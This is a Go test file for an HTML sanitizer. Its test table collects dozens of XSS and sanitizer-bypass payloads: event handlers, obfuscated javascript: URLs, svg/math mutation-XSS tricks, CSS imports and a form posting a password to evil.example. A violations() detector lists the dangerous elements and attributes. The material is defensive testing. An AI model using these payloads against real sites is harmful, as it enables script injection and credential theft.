package sanitize

import (
	"fmt"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// pageURL is the address the test pages are read from.
const pageURL = "https://example.com/a/"

// hostile are pages with active content, each with what the sanitized
// page must not hold (beyond what violations finds) and what it must
// still hold.
var hostile = []struct {
	name          string
	page          string
	notWant, want []string
}{
	{"script", `<p>text</p><script>alert(1)</script>`, []string{"alert"}, []string{"<p>text</p>"}},
	{"script in head", `<head><script src="https://evil.example/x.js"></script><title>T</title></head>`, []string{"evil"}, []string{"<title>T</title>"}},
	{"noscript markup stays escaped", `<body><noscript><p title="</noscript><img src=x onerror=alert(1)>">x</p></noscript>`, nil, []string{`<div><p title="&lt;/noscript&gt;&lt;img src=x onerror=alert(1)&gt;">x</p></div>`}},
	{"iframe", `<iframe src="https://evil.example/">fallback</iframe>`, []string{"evil", "fallback"}, nil},
	{"iframe srcdoc", `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, []string{"alert"}, nil},
	{"frameset", `<frameset onload="alert(1)"><frame src="https://evil.example/"></frameset>`, []string{"evil", "alert"}, nil},
	{"object", `<object data="data:text/html,<script>alert(1)</script>"><param name=x value=y>fallback</object>`, []string{"alert", "fallback"}, nil},
	{"embed", `<embed src="https://evil.example/x.swf"><embed src="javascript:alert(1)">`, []string{"evil", "alert"}, nil},
	{"applet", `<applet code="X.class">x</applet>`, []string{"X.class"}, nil},
	{"portal", `<portal src="https://evil.example/"></portal><p>text</p>`, []string{"evil"}, []string{"<p>text</p>"}},
	{"fencedframe", `<fencedframe src="https://evil.example/"></fencedframe>`, []string{"evil"}, nil},
	{"template with shadow root", `<div><template shadowrootmode="open"><img src=x onerror=alert(1)></template>text</div>`, []string{"alert", "<img"}, []string{"<div>text</div>"}},
	{"video and audio", `<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png" autoplay></video><audio src="https://evil.example/a.mp3" autoplay></audio>`, []string{"evil"}, nil},
	{"svg script", `<svg><script>alert(1)</script><script href="https://evil.example/x.js"/></svg>`, []string{"alert", "evil"}, []string{"<svg></svg>"}},
	{"svg animate href", `<svg><a><animate attributeName="href" values="0;javascript:alert(1)"/><text y="20">click</text></a></svg>`, []string{"alert", "animate"}, []string{`<text y="20">click</text>`}},
	{"svg set", `<svg><rect><set attributeName="onmouseover" to="alert(1)"/></rect></svg>`, []string{"alert", "<set"}, []string{"<rect>"}},
	{"svg use external", `<svg><use href="https://evil.example/sprite.svg#i"/><use xlink:href="#local"/></svg>`, []string{"evil"}, []string{`<use xlink:href="#local">`}},
	{"svg image", `<svg><image href="https://evil.example/x.png"/></svg>`, []string{"evil"}, nil},
	{"svg fill url", `<svg><rect fill="url(https://evil.example/p.svg#p)"/><rect fill="url(#grad) red"/></svg>`, []string{"evil"}, []string{`fill="url(#grad) red"`}},
	{"svg style", `<svg><style>@import url(https://evil.example/x.css);</style></svg>`, []string{"evil", "@import"}, nil},
	{"svg foreignObject", `<svg><foreignObject><iframe src="https://evil.example/"></iframe><p>x</p></foreignObject></svg>`, []string{"evil", "foreign"}, nil},
	{"svg style mxss", `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`, []string{"alert"}, nil},
	{"math mglyph style mxss", `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`, []string{"alert"}, nil},
	{"math href", `<math href="javascript:alert(1)"><mi xlink:href="data:x,<script>alert(2)</script>">x</mi></math>`, []string{"alert", "href"}, []string{"<mi>x</mi>"}},
	{"math annotation-xml", `<math><annotation-xml encoding="text/html"><iframe src="https://evil.example/"></iframe></annotation-xml></math>`, []string{"evil"}, nil},
	{"event handlers", `<body onload="alert(1)"><img src="/a.png" onerror="alert(2)"><p onclick="alert(3)" ONMOUSEOVER="alert(4)">x</p><details open ontoggle="alert(5)">d</details></body>`, []string{"alert"}, []string{`<img src="https://example.com/a.png"/>`, "<p>x</p>"}},
	{"custom element", `<x-widget onclick="alert(1)" src="https://evil.example/">text</x-widget>`, []string{"alert", "evil", "x-widget"}, []string{"text"}},
	{"javascript url", `<a href="javascript:alert(1)">x</a>`, []string{"alert"}, []string{"<a>x</a>"}},
	{"javascript url with entities", `<a href="&#x6A;avascript&colon;alert(1)">x</a><a href="javascript&#58;alert(2)">y</a>`, []string{"alert"}, nil},
	{"javascript url with control characters", "<a href=\" \x01java\tscript:alert(1)\">x</a><a href=\"jav&#x0A;ascript:alert(2)\">y</a><a href=\"&#14;javascript:alert(3)\">z</a>", []string{"alert"}, nil},
	{"javascript url in any attribute", `<p title="javascript:alert(1)" data-x="vbscript:msgbox(2)">x</p>`, []string{"alert", "msgbox"}, []string{"<p>x</p>"}},
	{"vbscript and livescript", `<a href="vbscript:msgbox(1)">x</a><a href="livescript:alert(2)">y</a>`, []string{"msgbox", "alert"}, nil},
	{"data url link", `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a><a href="data:image/svg+xml,<svg onload=alert(1)>">y</a>`, []string{"data:"}, nil},
	{"data url image", `<img src="data:image/png;base64,iVBORw0KGgo="><img src="data:text/html,<script>alert(1)</script>">`, []string{"text/html"}, []string{`<img src="data:image/png;base64,iVBORw0KGgo="/>`}},
	{"srcset", `<img srcset="/a.png 1x, data:text/html,x 2x"><picture><source srcset="/b.png 1x, /c.png 2x"><img src="/d.png"></picture>`, []string{"text/html"}, []string{`srcset="https://example.com/b.png 1x, https://example.com/c.png 2x"`}},
	{"input image", `<input type="image" src="javascript:alert(1)">`, []string{"alert"}, nil},
	{"meta refresh", `<head><meta http-equiv="refresh" content="0;url=javascript:alert(1)"><meta http-equiv="set-cookie" content="a=b"></head>`, []string{"refresh", "alert", "cookie"}, nil},
	{"meta charset", `<head><meta charset="utf-7"><meta http-equiv="Content-Type" content="text/html; charset=iso-2022-jp"><meta name="author" content="A"></head>`,
		[]string{"utf-7", "2022"}, []string{`<meta charset="utf-8"/>`, `content="text/html; charset=utf-8"`, `<meta name="author" content="A"/>`}},
	{"base", `<head><base href="https://evil.example/"></head><a href="x">x</a>`, []string{"<base"}, []string{`href="https://evil.example/x"`}},
	{"base javascript", `<head><base href="javascript:/a/;alert(1)//"></head><a href="x">x</a><img src="y">`, []string{"alert"}, []string{`href="https://example.com/a/x"`}},
	{"link", `<head><link rel="stylesheet" href="https://evil.example/x.css"><link rel="prefetch" href="https://evil.example/p"></head>`, []string{"evil"}, nil},
	{"form action", `<form action="https://evil.example/steal" method="post"><input name="password"><button formaction="https://evil.example/2">Go</button></form>`,
		[]string{"evil"}, []string{`<input name="password"/>`}},
	{"form javascript action", `<form action="javascript:alert(1)"><button formaction="javascript:alert(2)">b</button></form>`, []string{"alert"}, nil},
	{"ping and background", `<a href="/x" ping="https://evil.example/track">x</a><table background="https://evil.example/bg.png"><tr><td>c</td></tr></table>`, []string{"evil"}, []string{`<a href="https://example.com/x">x</a>`}},
	{"style url", `<style>body{color:#333;background:url(https://evil.example/x.png)}p{margin:0}</style>`, []string{"evil"}, []string{"color:#333", "p{margin:0}"}},
	{"style url quoted", `<style>*{background-image:url("https://evil.example/x")}</style>`, []string{"evil"}, nil},
	{"style import", `<style>@import "https://evil.example/x.css";h1{color:red}</style>`, []string{"evil", "@import"}, []string{"h1{color:red}"}},
	{"style escaped import", `<style>@\69mport 'https://evil.example/x.css';</style>`, []string{"evil"}, nil},
	{"style escaped url", `<style>a{background:u\72l(https://evil.example/x)}</style>`, []string{"evil"}, nil},
	{"style rule of a bad selector", `<style>a[href=x]{color:red}@font-face{font-family:F;src:url(https://evil.example/f.woff)}</style>`, []string{"evil"}, []string{"@font-face{font-family:F;}"}},
	{"style url in a string hid by a comment", `<style>a{content:"/*"}b{background:url(https://evil.example/x)}c{content:"*/"}</style>`, []string{"evil"}, []string{`a{content:"/*"}`}},
	{"style image-set", `<style>a{background:-webkit-image-set("https://evil.example/x.png" 1x)}</style>`, []string{"evil"}, nil},
	{"style attribute url", `<p style="color:red;background:url(https://evil.example/x)">x</p>`, []string{"evil"}, []string{`style="color:red;"`}},
	{"style attribute escapes", `<p style="background:u\72l(https://evil.example/x)">a</p><p style="background:u\rl(https://evil.example/y)">b</p><p style="background:\75 rl(https://evil.example/z)">c</p>`, []string{"evil"}, []string{"<p>a</p>"}},
	{"style attribute entities", `<p style="background:&#x75;rl(https://evil.example/x)">x</p>`, []string{"evil"}, nil},
	{"style attribute image-set", `<p style="background-image:image-set('https://evil.example/x.png' 1x)">x</p>`, []string{"evil"}, nil},
	{"style expression behavior binding", `<p style="width:expression(alert(1))">a</p><p style="width:e\78pression(alert(2))">b</p><p style="behavior:url(x.htc)">c</p><p style="-moz-binding:url(x.xml#x)">d</p>`, []string{"alert", "htc", "x.xml"}, nil},
	{"plain style kept", `<p style="color:red; font-weight:bold">x</p><style>h1{font-size:2em}</style>`, nil, []string{`style="color:red; font-weight:bold"`, "<style>h1{font-size:2em}</style>"}},
	{"links resolved", `<a href="/home">h</a><a href="#top">t</a><a href="mailto:a@example.com">m</a><img src="i.png">`, nil,
		[]string{`href="https://example.com/home"`, `href="#top"`, `href="mailto:a@example.com"`, `src="https://example.com/a/i.png"`}},
	{"xmp and plaintext", `<xmp><script>alert(1)</script></xmp><plaintext><img src=x onerror=alert(2)>`, []string{"<script", "<img"}, []string{"<pre>&lt;script&gt;"}},
	{"comments", `<!--[if IE]><script>alert(1)</script><![endif]--><p>x</p>`, []string{"alert", "<!--"}, nil},
	{"doctype kept", `<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "x"><p>x</p>`, nil, []string{"<!DOCTYPE html>"}},
}

// TestHostile sanitizes each hostile page, writes it and parses it again
// as a browser would (with and without scripts): nothing that runs, embeds
// or loads may be left (violations), nor what the case names.
func TestHostile(t *testing.T) {
	for _, tt := range hostile {
		t.Run(tt.name, func(t *testing.T) {
			out := sanitizeString(t, tt.page)
			for _, scripting := range []bool{false, true} {
				doc, err := html.ParseWithOptions(strings.NewReader(out), html.ParseOptionEnableScripting(scripting))
				if err != nil {
					t.Fatal(err)
				}
				if v := violations(doc); len(v) > 0 {
					t.Errorf("scripting %v: %s\nin %s", scripting, strings.Join(v, "; "), out)
				}
			}
			for _, s := range tt.notWant {
				if strings.Contains(out, s) {
					t.Errorf("output has %q:\n%s", s, out)
				}
			}
			for _, s := range tt.want {
				if !strings.Contains(out, s) {
					t.Errorf("output lacks %q:\n%s", s, out)
				}
			}
		})
	}
}

// sanitizeString parses a page as the tokenize package does (scripting
// disabled), sanitizes it with its base and writes it.
func sanitizeString(t testing.TB, page string) string {
	t.Helper()
	doc, err := html.ParseWithOptions(strings.NewReader(page), html.ParseOptionEnableScripting(false))
	if err != nil {
		t.Fatal(err)
	}
	var sb strings.Builder
	if err := html.Render(&sb, Copy(doc, Options{Base: BaseURL(doc, pageURL)})); err != nil {
		t.Fatal(err)
	}
	return sb.String()
}

// violations lists what in a parsed page could run code, embed a
// document or load something other than an image.
func violations(doc *html.Node) []string {
	var out []string
	for n := range doc.Descendants() {
		if n.Type == html.CommentNode {
			out = append(out, "comment")
		}
		if n.Type != html.ElementNode {
			continue
		}
		name := strings.ToLower(n.Data)
		switch name {
		case "script", "iframe", "frame", "frameset", "object", "embed", "applet", "param", "portal", "fencedframe",
			"base", "link", "template", "video", "audio", "animate", "animatemotion", "animatetransform", "set",
			"foreignobject", "image", "feimage", "annotation-xml":
			out = append(out, "<"+name+">")
		case "meta":
			for _, a := range n.Attr {
				if a.Key == "http-equiv" && !strings.EqualFold(a.Val, "content-type") {
					out = append(out, "meta http-equiv="+a.Val)
				}
			}
		case "style":
			if !safeCSS(textOf(n)) {
				out = append(out, "style sheet "+textOf(n))
			}
		}
		for _, a := range n.Attr {
			key := strings.ToLower(a.Key)
			if a.Namespace != "" {
				key = a.Namespace + ":" + key
			}
			scheme := Scheme(a.Val)
			switch {
			case strings.HasPrefix(key, "on"), key == "srcdoc", key == "action", key == "formaction", key == "ping",
				key == "background", key == "poster":
				out = append(out, fmt.Sprintf("%s %s=%q", name, key, a.Val))
			case scheme == "javascript" || scheme == "vbscript" || scheme == "livescript":
				out = append(out, fmt.Sprintf("%s %s=%q", name, key, a.Val))
			case scheme == "data" && !(name == "img" && key == "src" && strings.HasPrefix(squeeze(a.Val), "data:image/")):
				out = append(out, fmt.Sprintf("%s %s=%q", name, key, a.Val))
			case key == "style" && !safeCSS(a.Val):
				out = append(out, fmt.Sprintf("%s style=%q", name, a.Val))
			case (key == "href" || key == "xlink:href") && n.Namespace == "svg" && !strings.HasPrefix(a.Val, "#"):
				out = append(out, fmt.Sprintf("svg %s %s=%q", name, key, a.Val))
			}
		}
	}
	return out
}

// TestBaseURL: a page's base is its first <base href> resolved against
// its URL, when that is http or https.
func TestBaseURL(t *testing.T) {
	for _, tt := range []struct {
		page, url, want string
	}{
		{`<p>x`, "https://example.com/a/b.html", "https://example.com/a/b.html"},
		{`<base href="/c/"><p>x`, "https://example.com/a/b.html", "https://example.com/c/"},
		{`<base target="_top"><base href="https://cdn.example/">`, "", "https://cdn.example/"},
		{`<base href="javascript:alert(1)//">`, "https://example.com/", "https://example.com/"},
		{`<base href="/c/">`, "", ""},
		{`<p>x`, "ftp://example.com/", ""},
		{`<p>x`, "", ""},
	} {
		doc, err := html.Parse(strings.NewReader(tt.page))
		if err != nil {
			t.Fatal(err)
		}
		got := ""
		if u := BaseURL(doc, tt.url); u != nil {
			got = u.String()
		}
		if got != tt.want {
			t.Errorf("BaseURL(%q, %q) = %q, want %q", tt.page, tt.url, got, tt.want)
		}
	}
}

// TestCopyLeavesTree: Copy does not change the tree it copies.
func TestCopyLeavesTree(t *testing.T) {
	page := `<html><head><script>x()</script><style>a{background:url(x)}</style></head><body><p onclick="y()" style="background:url(z)">t<iframe></iframe></p><noscript><b>n</b></noscript></body></html>`
	doc, err := html.ParseWithOptions(strings.NewReader(page), html.ParseOptionEnableScripting(false))
	if err != nil {
		t.Fatal(err)
	}
	var before, after strings.Builder
	html.Render(&before, doc)
	Copy(doc, Options{Base: BaseURL(doc, pageURL)})
	html.Render(&after, doc)
	if before.String() != after.String() {
		t.Errorf("the tree changed:\n%s\nto\n%s", before.String(), after.String())
	}
}

// FuzzCopy sanitizes any page, writes it and parses it again as a browser
// would (with and without scripts): no script element, no event handler,
// no javascript: URL, nor anything else violations finds, may be left.
func FuzzCopy(f *testing.F) {
	for _, tt := range hostile {
		f.Add(tt.page)
	}
	f.Fuzz(func(t *testing.T, page string) {
		out := sanitizeString(t, page)
		for _, scripting := range []bool{false, true} {
			doc, err := html.ParseWithOptions(strings.NewReader(out), html.ParseOptionEnableScripting(scripting))
			if err != nil {
				t.Fatal(err)
			}
			if v := violations(doc); len(v) > 0 {
				t.Fatalf("scripting %v: %s\nin %q\nfrom %q", scripting, strings.Join(v, "; "), out, page)
			}
		}
	})
}

// TestWrapText: WrapText's elements wrap the copied text, within the
// policy: a <script>, a <style> or a void element wraps nothing, and
// attributes not on the list are left out.
func TestWrapText(t *testing.T) {
	page := `<p>one <b>two</b></p><textarea>three</textarea>`
	for _, tt := range []struct {
		name, wrapper string
		want          string
	}{
		{"mark", "mark", `<p><mark class="c" data-n="1">one </mark><b><mark class="c" data-n="1">two</mark></b></p><textarea>three</textarea>`},
		{"script", "script", `<p>one <b>two</b></p>`},
		{"style", "style", `<p>one <b>two</b></p>`},
		{"img", "img", `<p>one <b>two</b></p>`},
	} {
		t.Run(tt.name, func(t *testing.T) {
			doc, err := html.Parse(strings.NewReader(page))
			if err != nil {
				t.Fatal(err)
			}
			wrap := func(n *html.Node) *html.Node {
				if n.Parent.Data == "textarea" {
					return nil
				}
				return &html.Node{Type: html.ElementNode, Data: tt.wrapper, Attr: []html.Attribute{
					{Key: "class", Val: "c"}, {Key: "data-n", Val: "1"}, {Key: "onclick", Val: "x()"}}}
			}
			var sb strings.Builder
			if err := html.Render(&sb, Copy(doc, Options{WrapText: wrap})); err != nil {
				t.Fatal(err)
			}
			if !strings.Contains(sb.String(), tt.want) {
				t.Errorf("got %s, want %s", sb.String(), tt.want)
			}
		})
	}
}
